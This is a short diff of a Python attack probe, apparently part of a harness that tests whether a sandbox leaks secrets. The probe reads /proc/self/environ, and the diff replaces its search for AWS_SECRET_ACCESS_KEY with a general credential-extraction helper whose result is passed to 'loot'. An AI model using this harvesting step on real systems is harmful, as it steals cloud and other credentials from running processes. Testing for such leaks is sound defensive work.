@@ -6,7 +6,7 @@ Means: /proc/self/environ shows the block that execve(2) put on the stack. unset
 
 import os
 
-from attack import DONE, attempting, denied, loot
+from attack import DONE, attempting, credential, denied, loot
 
 
 def run(brief):
@@ -17,10 +17,10 @@ def run(brief):
             block = file.read()
     except OSError as why:
         return denied("/proc/self/environ", why)
-    for entry in block.split(b"\0"):
-        if entry.startswith(b"AWS_SECRET_ACCESS_KEY="):
-            loot(entry)
-            return DONE
+    found = credential(block)
+    if found:
+        loot(found)
+        return DONE
     return denied("/proc/self/environ", "no credential in it")
 
 
